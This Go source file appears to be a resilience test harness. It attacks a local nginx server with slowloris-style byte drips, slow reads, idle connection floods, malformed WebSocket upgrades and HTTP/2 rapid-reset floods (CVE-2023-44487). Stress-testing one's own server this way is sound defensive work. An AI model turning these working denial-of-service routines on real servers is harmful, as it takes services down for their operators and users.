package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// dials opens a connection with TLS to nginx from the attacker's address, which ends with ctx.
func (a *attacker) dials(ctx context.Context, protocol string) (net.Conn, error) {
	d := tls.Dialer{
		NetDialer: &net.Dialer{LocalAddr: &net.TCPAddr{IP: a.from}, Timeout: 10 * time.Second},
		Config:    &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}}, //nolint:gosec // the test's own certificate
	}
	return d.DialContext(ctx, "tcp", a.to)
}

// raw sends text on a connection of its own and counts the answer.
func (a *attacker) raw(ctx context.Context, text string) {
	c, err := a.dials(ctx, "http/1.1")
	if err != nil {
		a.kind.count(0)
		return
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	_, _ = io.WriteString(c, text) // it may be refused before it is sent
	status := 0
	answer := make([]byte, 64)
	n, _ := io.ReadAtLeast(c, answer, 12)
	_, _ = fmt.Sscanf(string(answer[:n]), "HTTP/1.1 %d", &status)
	a.kind.count(status)
}

// upgrades asks for WebSockets, which the server has none of.
func (a *attacker) upgrades(ctx context.Context) {
	every(ctx, 500*time.Millisecond, func(n int) {
		path := []string{"/", "/relay", "/rooms/417/offer"}[n%3]
		a.raw(ctx, "GET "+path+" HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n\x82\xff\x7f\xff\xff\xff\xff\xff\xff\xff")
	})
}

// drips sends heads and bodies a byte at a time.
func (a *attacker) drips(ctx context.Context) {
	a.connects(ctx, func(i int, c net.Conn) {
		begin := "GET / HTTP/1.1\r\nHost: localhost\r\nX: "
		if i%2 == 0 {
			begin = "POST " + a.room(0) + "/offer HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n\r\n"
		}
		for _, err := io.WriteString(c, begin); err == nil && ctx.Err() == nil; _, err = io.WriteString(c, "x") {
			_ = c.SetReadDeadline(time.Now().Add(time.Second))
			if n, err := c.Read(make([]byte, 64)); n > 0 || errors.Is(err, io.EOF) {
				break
			}
		}
	})
}

// connects keeps 20 connections for use, each opened again 2 s after its use has ended.
func (a *attacker) connects(ctx context.Context, use func(i int, c net.Conn)) {
	var all sync.WaitGroup
	for i := range 20 {
		all.Go(func() {
			every(ctx, 2*time.Second, func(int) {
				defer a.kind.count(0)
				c, err := a.dials(ctx, "http/1.1")
				if err != nil {
					return
				}
				defer func() { _ = c.Close() }()
				defer context.AfterFunc(ctx, func() { _ = c.Close() })()
				use(i, c)
			})
		})
	}
	all.Wait()
}

// readsSlowly asks for the page and takes none of it.
func (a *attacker) readsSlowly(ctx context.Context) {
	a.connects(ctx, func(_ int, c net.Conn) {
		_ = c.(*tls.Conn).NetConn().(*net.TCPConn).SetReadBuffer(1) // as little as the kernel allows
		asks := strings.Repeat("GET "+largestAsset(a.t)+" HTTP/1.1\r\nHost: localhost\r\n\r\n", 50)
		_, _ = io.WriteString(c, asks)
		for err := error(nil); err == nil && ctx.Err() == nil; {
			_ = c.SetReadDeadline(time.Now().Add(90 * time.Second))
			_, err = io.ReadFull(c, make([]byte, 256))
			select {
			case <-ctx.Done():
			case <-time.After(5 * time.Second):
			}
		}
	})
}

// isSilent opens connections and says nothing, not even of TLS.
func (a *attacker) isSilent(ctx context.Context) {
	var all sync.WaitGroup
	for range 200 {
		all.Go(func() {
			every(ctx, 5*time.Second, func(int) {
				c, err := (&net.Dialer{LocalAddr: &net.TCPAddr{IP: a.from}}).DialContext(ctx, "tcp", a.to)
				if err == nil {
					stop := context.AfterFunc(ctx, func() { _ = c.Close() })
					_, _ = c.Read(make([]byte, 1))
					_ = c.Close()
					stop()
				}
				a.kind.count(0)
			})
		})
	}
	all.Wait()
}

// resets opens streams and resets them at once (CVE-2023-44487), some of them with more streams than nginx allows.
func (a *attacker) resets(ctx context.Context) {
	every(ctx, time.Second, func(int) {
		c, err := a.dials(ctx, "h2")
		if err != nil {
			a.kind.count(0)
			return
		}
		defer func() { _ = c.Close() }()
		drained := make(chan struct{})
		go func() {
			defer close(drained)
			_, _ = io.Copy(io.Discard, c)
		}()
		defer func() { <-drained }()
		defer func() { _ = c.Close() }()
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		_, _ = io.WriteString(c, http2.ClientPreface)
		f := http2.NewFramer(c, nil)
		_ = f.WriteSettings() // errors come with a frame
		var head bytes.Buffer
		encoder := hpack.NewEncoder(&head)
		for id := uint32(1); id < 400; id += 2 {
			head.Reset()
			for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/rooms/417/offer"}, {"prefer", "wait=60"}} {
				_ = encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // into memory
			}
			err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true})
			if err == nil && a.number%2 == 0 {
				err = f.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			a.kind.requests.Add(1)
			if err != nil || ctx.Err() != nil {
				a.kind.count(0)
				return
			}
		}
		if a.number%2 == 1 { // more streams than nginx allows, for as long as it allows
			<-drained
		}
	})
}
